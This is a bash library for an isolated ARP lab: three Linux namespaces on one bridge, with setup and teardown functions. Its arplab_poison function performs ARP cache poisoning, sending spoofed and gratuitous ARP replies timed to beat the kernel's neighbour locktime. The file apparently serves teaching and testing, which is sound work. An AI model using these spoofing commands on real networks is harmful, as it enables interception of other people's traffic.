# shellcheck shell=bash
# arp-lab.sh - three hosts on one Linux bridge, for ARP: a client, a
# server and a third host (the poisoner).  Source it from bash after
# setting ARPLAB_PREFIX (namespace and interface names start with it):
#
#   ${P}cli 192.0.2.1 02:00:00:00:00:01 --+
#   ${P}srv 192.0.2.2 02:00:00:00:00:02 --+-- bridge in ${P}mid
#   ${P}atk 192.0.2.3 02:00:00:00:00:03 --+
#
# Unlike scripts/lab-lib.sh, no neighbour entry is permanent: the hosts
# resolve each other with ARP, which is what is studied.  IPv6 is off on
# every link (no neighbour discovery noise in the captures).
# arplab_down removes exactly what arplab_up made.

ARPLAB_PREFIX=${ARPLAB_PREFIX:-arplab-}
ARPLAB_HOSTS="cli srv atk"
ARPLAB_IP_cli=192.0.2.1 ARPLAB_IP_srv=192.0.2.2 ARPLAB_IP_atk=192.0.2.3
ARPLAB_MAC_cli=02:00:00:00:00:01 ARPLAB_MAC_srv=02:00:00:00:00:02 ARPLAB_MAC_atk=02:00:00:00:00:03

arplab_in() { local h=$1; shift; ip netns exec "$ARPLAB_PREFIX$h" "$@"; }

arplab_up() {
    local p=$ARPLAB_PREFIX h ip mac
    ip netns add "${p}mid" || return 1
    ip -n "${p}mid" link add br0 type bridge
    ip -n "${p}mid" link set br0 up
    for h in $ARPLAB_HOSTS; do
        eval "ip=\$ARPLAB_IP_$h mac=\$ARPLAB_MAC_$h"
        ip netns add "$p$h" || return 1
        ip -n "$p$h" link set lo up
        arplab_in "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
        ip link add "${p}$h" netns "$p$h" type veth peer name "$h" netns "${p}mid"
        ip -n "$p$h" link set "${p}$h" address "$mac"
        ip -n "$p$h" addr add "$ip/24" dev "${p}$h"
        ip -n "$p$h" link set "${p}$h" up
        ip -n "${p}mid" link set "$h" master br0 up
    done
}

arplab_down() {
    local p=$ARPLAB_PREFIX h
    for h in $ARPLAB_HOSTS mid; do
        ip netns del "$p$h" 2>/dev/null
    done
    return 0
}

# arplab_poison RAWSHAKE: what the poisoner does, in the order the lab
# sheet tells it: one real exchange first (the server learns the client),
# then replies no one asked for that give the client's address the
# poisoner's MAC, then a burst of gratuitous replies that keep it so.
arplab_poison() {
    local rs=$1 p=$ARPLAB_PREFIX
    arplab_in srv ping -c 1 -W 1 "$ARPLAB_IP_cli" >/dev/null
    sleep 1.2   # past the neighbour entry's locktime (1 s): the kernel takes the update
    arplab_in atk "$rs" send arp -I "${p}atk" -Z root -q --op reply --sender-ip "$ARPLAB_IP_cli" \
        --target-mac "$ARPLAB_MAC_srv" -c 2 -i 0.3 "$ARPLAB_IP_srv"
    arplab_in atk "$rs" send arp -I "${p}atk" -Z root -q --gratuitous --op reply \
        -c 15 -i 0.02 "$ARPLAB_IP_cli"
}
